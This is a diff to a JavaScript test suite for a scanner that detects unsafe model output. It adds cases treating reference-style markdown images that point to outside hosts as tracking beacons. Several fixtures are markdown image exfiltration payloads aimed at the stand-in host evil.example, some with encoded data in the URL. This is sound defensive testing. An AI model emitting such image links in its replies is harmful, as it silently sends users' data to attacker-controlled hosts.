@@ -1007,7 +1007,10 @@ describe("output checks and redaction", () => {
       assert.deepEqual(link(url), ["data_in_link"], url);
     // Reference-style: the definition serves `![a][1]` as well, wherever the image stands.
     const data = "SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE";
-    assert.deepEqual(types(findUnsafeOutput(`![a][1]\n\n[1]: https://evil.example/p.png?d=${data}`)), ["data_in_link"]);
+    assert.deepEqual(types(findUnsafeOutput(`![a][1]\n\n[1]: https://evil.example/p.png?d=${data}`)).sort(), [
+      "data_in_link",
+      "external_image",
+    ]);
     assert.deepEqual(types(findUnsafeOutput(`[1]: <https://evil.example/p?d=${data}>`)), ["data_in_link"]);
     assert.deepEqual(types(findUnsafeOutput("See [the docs][1].\n\n[1]: https://docs.example.com/guide?page=2")), []);
   });
@@ -1127,6 +1130,22 @@ describe("output checks and redaction", () => {
       types(findUnsafeOutput("[a [b] c](https://docs.example.com/x) and [d](https://example.com/y)")),
       [],
     );
+    // A reference image loads its definition's URL, before or after it (an outside one is a beacon even
+    // without data); a reference link with no data, an allowlisted host or another label is fine.
+    const allowedHosts = ["docs.example.com"];
+    for (const text of [
+      "![x][1]\n\n[1]: https://evil.example/pixel.png",
+      "[1]: https://evil.example/pixel.png\n\n![x][1]",
+      "![Logo]\n\n[logo]: <https://evil.example/pixel.png>",
+      "![A  b][]\n\n[a b]: https://evil.example/pixel.png",
+    ])
+      assert.deepEqual(types(findUnsafeOutput(text, { allowedHosts })), ["external_image"], text);
+    for (const text of [
+      "![x][1]\n\n[1]: https://docs.example.com/pixel.png",
+      "See [the docs][1].\n\n[1]: https://evil.example/guide",
+      "![x][2]\n\n[1]: https://evil.example/pixel.png",
+    ])
+      assert.deepEqual(types(findUnsafeOutput(text, { allowedHosts })), [], text);
     const pieces = [
       "!",
       "[",
@@ -1146,6 +1165,12 @@ describe("output checks and redaction", () => {
       `https://evil.example/a(b)?d=${data}`,
       `https://evil.example/c?d=${data}`,
       "https://docs.example.com/x",
+      // Reference images and their definitions, either way round.
+      "![a][1]",
+      "![1]",
+      "![1][]",
+      "\n\n[1]: https://evil.example/r.png\n\n",
+      "\n[1]: <https://docs.example.com/r.png>\n",
     ];
     const parser = new Parser();
     const renderer = new HtmlRenderer();
@@ -1320,6 +1345,9 @@ describe("every scanner is linear-time on adversarial input", () => {
     open_parentheses: "[a](b(",
     balanced_parentheses: "[a](b(c)",
     loose_brackets: "![a] ](",
+    reference_images: "![a][b]",
+    definitions: "[a]: http://a.a/ ",
+    link_titles: '[a](b "',
     leet_word: "a1a",
     leet_words: "a1aa ",
     spelled_letters: "a.",
